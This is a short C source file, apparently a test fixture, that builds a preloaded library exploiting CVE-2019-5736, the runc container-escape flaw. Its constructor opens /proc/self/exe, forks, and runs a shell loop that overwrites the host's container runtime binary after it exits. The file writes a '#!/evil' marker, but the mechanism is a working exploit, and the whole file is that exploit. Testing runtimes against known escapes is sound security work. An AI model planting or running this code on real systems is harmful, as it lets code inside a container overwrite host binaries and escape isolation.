/* SPDX-License-Identifier: Apache-2.0 */
/* steal.so: what an image preloads into whatever is executed in it (CVE-2019-5736).  It keeps a handle of the program that it finds itself in
 * and, once that has ended, overwrites it.  */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__ ((constructor)) static void
steal (void)
{
  char path[64];
  int fd = open ("/proc/self/exe", O_RDONLY);

  if (fd < 0 || fork () != 0)
    return;
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  execl ("/bin/sh", "sh", "-c", "for i in 1 2 3 4 5 6 7 8 9; do (echo '#!/evil' > $0) 2>/dev/null && exit; usleep 50000; done", path, NULL);
  _exit (1);
}
